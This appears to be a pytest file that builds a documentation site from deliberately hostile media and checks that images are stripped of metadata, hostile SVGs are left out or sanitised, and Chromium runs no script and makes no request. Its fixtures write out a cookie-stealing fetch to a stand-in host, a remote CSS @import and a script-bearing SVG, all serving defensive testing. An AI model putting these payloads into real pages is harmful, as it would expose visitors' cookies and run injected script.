"""What a build publishes from hostile media, read on the built site: images made again without
metadata, images no page embeds and contributors' code left out, and every published SVG opened
AS A FILE in Chromium (no page, so no Content-Security-Policy: what GitHub Pages serves) with no
script run and no request out of the file."""

from __future__ import annotations

import os
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest
from conftest import make_site_tree, shared
from PIL import Image, PngImagePlugin
from test_hostile_media import HOSTILE_SVG, SECRET, _assert_harmless, _jpeg_gps

from toolkit.media import svg

FOLDER = "docs/methodologies/debat-budget"
PAGE = f"{FOLDER}/index.fr.md"
PLAIN_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20" width="400" height="200">'
    '<defs><linearGradient id="g"><stop offset="0" stop-color="#c33"/></linearGradient></defs>'
    '<rect width="40" height="20" fill="url(#g)"/><text x="2" y="12">Kayes</text></svg>'
)
#: Hostile SVGs embedded by the page: hub check reports them; the build leaves them out.
EMBEDDED_HOSTILE = ("namespaced script", "foreignObject iframe", "escaped @import")


def _make(folder: Path) -> Path:
    root = make_site_tree(folder / "hub")
    docs = root / FOLDER
    (docs / "schema.svg").write_text(PLAIN_SVG)
    names = []
    for index, case in enumerate(EMBEDDED_HOSTILE):
        (docs / f"hostile-{index}.svg").write_text(HOSTILE_SVG[case])
        names.append(f"hostile-{index}.svg")
    _jpeg_gps(docs / "photo.jpg")
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", SECRET)
    Image.new("RGB", (50, 50), "white").save(docs / "unused.png", pnginfo=info)
    (docs / "chanson.mp3").write_bytes(b"ID3\x04\x00\x00\x00\x00\x00\x10TIT2" + SECRET.encode())
    (docs / "track.js").write_text("fetch('https://x.example/?' + document.cookie)")
    (root / "docs/assets/extra.css").write_text("@import url(https://x.example/a.css);")
    page = root / PAGE
    text = page.read_text(encoding="utf-8")
    embeds = "".join(f"![Image]({name})\n\n" for name in ["schema.svg", "photo.jpg", *names])
    page.write_text(text.replace("Le débat porte", embeds + "Le débat porte", 1), encoding="utf-8")
    result = subprocess.run(  # not strict: what would a careless maintainer's build publish?
        [sys.executable, "-m", "mkdocs", "build", "--site-dir", str(root / "site")],
        cwd=root,
        capture_output=True,
        text=True,
        env={**os.environ, "CI": "", "GITHUB_ACTIONS": "", "HUB_KITS": "0"},
        timeout=900,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    (root / "build.log").write_text(result.stderr)
    return root


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    return shared(tmp_path_factory, "media-hostile", _make)


@pytest.mark.build
def test_the_build_publishes_only_what_the_hub_made_again(hostile_site):
    site = hostile_site / "site"
    published = {p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()}
    here = "methodologies/debat-budget"
    assert f"{here}/schema.svg" in published and f"{here}/photo.jpg" in published
    for left_out in (
        "unused.png",
        "chanson.mp3",  # an audio file no capsule names: a source, never published
        "track.js",
        "hostile-0.svg",
        "hostile-1.svg",
        "hostile-2.svg",
    ):
        assert not any(p.endswith(f"{here}/{left_out}") for p in published), left_out
    assert not any(p.endswith("assets/extra.css") for p in published)
    for path in site.rglob("*"):
        if path.suffix in (".jpg", ".png", ".gif", ".webp", ".svg", ".mp3", ".opus"):
            assert SECRET.encode() not in path.read_bytes(), path
    with Image.open(site / here / "photo.jpg") as photo:
        assert not photo.getexif() and "comment" not in photo.info
    log = (hostile_site / "build.log").read_text()
    assert f"{FOLDER}/hostile-0.svg:1: [files] The SVG carries active or external content" in log
    assert f"{FOLDER}/track.js:1: [files]" in log and "docs/assets/extra.css:1: [files]" in log


@pytest.mark.build
def test_every_published_svg_is_harmless_to_an_xml_parser(hostile_site):
    found = list((hostile_site / "site").rglob("*.svg"))
    assert found
    for path in found:
        if "assets" in path.relative_to(hostile_site / "site").parts:
            ElementTree.parse(path)  # the theme's own
            continue
        _assert_harmless(path.read_bytes())


# --- Chromium ---------------------------------------------------------------------------------


def _open_as_file(browser, path: Path) -> dict:
    """Open ``path`` (file://) in a fresh context: the requests it makes other than itself, the
    dialogs a script opened, and whether a script wrote a mark into the document."""
    context = browser.new_context()
    page = context.new_page()
    seen = {"requests": [], "dialogs": [], "errors": []}
    url = path.resolve().as_uri()
    page.on("request", lambda r: r.url != url and seen["requests"].append(r.url))
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: seen["errors"].append(str(e)))
    page.goto(url)
    page.wait_for_timeout(300)  # scripts, style sheets and frames start at load
    seen["mark"] = page.evaluate("document.documentElement.getAttribute('data-ran')")
    context.close()
    return seen


#: Hostile sources used as controls: opened as they are, they must be caught by the checks of
#: _open_as_file (otherwise the test could not fail).
SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
FETCH = (
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://x.example/a.css);</style>'
    "<rect/></svg>"
)


@pytest.mark.build
@pytest.mark.browser
def test_every_published_svg_opened_as_a_file_runs_nothing_and_fetches_nothing(
    hostile_site, browser, tmp_path
):
    control = tmp_path / "control-script.svg"
    control.write_text(SCRIPT)
    assert _open_as_file(browser, control)["dialogs"] == ["1"]  # the browser runs a raw one
    control = tmp_path / "control-fetch.svg"
    control.write_text(FETCH)
    assert any("x.example" in url for url in _open_as_file(browser, control)["requests"])

    outputs = list((hostile_site / "site").rglob("*.svg"))
    for source in HOSTILE_SVG.values():  # the hub's output of every hostile case, too
        out = tmp_path / f"{len(outputs)}.svg"
        out.write_bytes(svg.clean(source.encode()).data)
        outputs.append(out)
    for path in outputs:
        seen = _open_as_file(browser, path)
        assert seen["requests"] == [] and seen["dialogs"] == [] and not seen["mark"], (path, seen)
